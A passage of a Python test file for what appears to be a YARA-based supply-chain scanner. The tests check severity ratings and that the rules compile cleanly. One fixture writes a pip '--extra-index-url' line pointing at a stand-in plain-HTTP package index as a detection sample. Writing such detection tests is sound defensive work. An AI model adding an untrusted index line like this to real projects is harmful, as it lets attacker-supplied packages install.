    ]
    assert not loud, content


def test_requirements_file_is_not_prose(make_repo: MakeRepo) -> None:
    """pip acts on a requirements file; a README's words about it do not run."""
    line = "--extra-index-url http://pypi.x.invalid/simple\n"
    root = make_repo({"requirements.txt": line, "docs/install.txt": line, "README.md": line})
    by_file = {f.location.path: f.severity for f in yara_findings(root)}
    assert by_file["requirements.txt"] is Severity.MEDIUM
    assert by_file["docs/install.txt"] is Severity.LOW
    assert by_file["README.md"] is Severity.LOW


def test_rules_compile_without_slow_rule_warnings() -> None:
    """libyara warns about atoms too short to index or unbounded gaps; none may slip in."""
    import yara

    from loadguard.analyzers.yara import _rule_files

    yara.compile(filepaths=_rule_files(), error_on_warning=True)
